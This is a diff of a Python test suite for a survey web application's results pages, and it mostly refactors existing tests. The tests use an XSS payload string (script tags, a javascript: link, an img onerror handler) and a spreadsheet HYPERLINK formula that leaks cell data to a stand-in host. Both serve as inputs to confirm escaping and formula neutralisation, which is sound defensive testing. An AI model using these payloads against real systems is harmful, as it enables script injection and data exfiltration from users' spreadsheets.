@@ -30,7 +30,10 @@ from .helpers import add_response, make_survey, question
 
 FIXTURES = Path(__file__).parent.parent / "fixtures" / "surveys"
 Q = QuestionKind
-XSS = "<script>alert(1)</script> [click](javascript:alert(1)) </script><img src=x onerror=alert(2)>"
+XSS = (
+    "<script>alert(1)</script> [click](javascript:alert(1)) "
+    "</script><img src=x onerror=alert(2)>"
+)
 
 
 def _responses(survey, count: int, **answers_over) -> None:
@@ -44,6 +47,11 @@ def _responses(survey, count: int, **answers_over) -> None:
         }
         answers.update(answers_over)
         add_response(survey, answers, tier="silver" if index % 2 else "gold")
+
+
+def _text_url(survey) -> str:
+    q = question(survey, Q.LONG_TEXT)
+    return f"/surveys/{survey.id}/results/questions/{q.id}/answers"
 
 
 def _member(index: int, age: str) -> Member:
@@ -118,11 +126,10 @@ def test_free_text_is_shown_as_text_everywhere(client, login, cast) -> None:
     results = client.get(f"/surveys/{survey.id}/results").get_data(as_text=True)
     assert "</script><b>" not in results
     assert "<script>alert" not in results
-    charts = [json.loads(unescape(m)) for m in re.findall(r"data-chart='([^']*)'", results)]
+    found = re.findall(r"data-chart='([^']*)'", results)
+    charts = [json.loads(unescape(m)) for m in found]
     assert any(c["labels"][0] == "</script><b>x</b>" for c in charts)
-    text_page = client.get(
-        f"/surveys/{survey.id}/results/questions/{question(survey, Q.LONG_TEXT).id}/answers"
-    )
+    text_page = client.get(_text_url(survey))
     page = text_page.get_data(as_text=True)
     assert "<script>alert" not in page
     assert "<img src=x" not in page
@@ -141,10 +148,11 @@ def test_free_text_search_and_pages(client, login, cast) -> None:
     survey = make_survey()
     _responses(survey, 60)
     login(cast["officer"])
-    url = f"/surveys/{survey.id}/results/questions/{question(survey, Q.LONG_TEXT).id}/answers"
+    url = _text_url(survey)
     first = client.get(url).get_data(as_text=True)
     assert "60 answers" in first
-    assert "comment 59" in first and "comment 5<" not in first
+    assert "comment 59" in first
+    assert "comment 5<" not in first
     second = client.get(url + "?page=2").get_data(as_text=True)
     assert "comment 5<" in second
     found = client.get(url + "?q=COMMENT+1").get_data(as_text=True)
@@ -168,7 +176,8 @@ def test_crosstab_by_tier_suppresses_small_cells(client, login, cast) -> None:
     text = client.get(
         f"/surveys/{survey.id}/results/crosstab?question={q.id}&by=tier"
     ).get_data(as_text=True)
-    assert "Gold" in text and "Silver" in text
+    assert "Gold" in text
+    assert "Silver" in text
     rows = {
         m.group(1): m.group(2)
         for m in re.finditer(
@@ -198,11 +207,13 @@ def test_equality_crosstab_is_for_admins_on_named_surveys(client, login, cast) -
     page = client.get(url)
     assert page.status_code == 200
     text = page.get_data(as_text=True)
-    assert "18 to 24" in text and "65 to 74" in text
+    assert "18 to 24" in text
+    assert "65 to 74" in text
     anonymous = make_survey(title="Anonymous one")
     assert (
         client.get(
-            f"/surveys/{anonymous.id}/results/crosstab?question={question(anonymous, Q.SINGLE_CHOICE).id}&by=equality:age_band"
+            f"/surveys/{anonymous.id}/results/crosstab"
+            f"?question={question(anonymous, Q.SINGLE_CHOICE).id}&by=equality:age_band"
         ).status_code
         == 403
     )
@@ -255,7 +266,7 @@ def test_exports_neutralise_formulas_and_are_audited(client, login, cast, fmt) -
     assert '\'=HYPERLINK("http://x/?"&A1,"x")' in comments
     flat = " ".join(" ".join(row) for row in cells)
     assert "ann@example.org" not in flat
-    assert all(not c[:1] in "=+-@\t\r" for row in cells for c in row if c)
+    assert all(c[:1] not in "=+-@\t\r" for row in cells for c in row if c)
     assert cells[1][1] == "2024-03-15"
     results = client.get(f"/surveys/{survey.id}/results/export.{fmt}")
     assert "Newsletter" in " ".join(" ".join(r) for r in _cells(results.data, fmt))
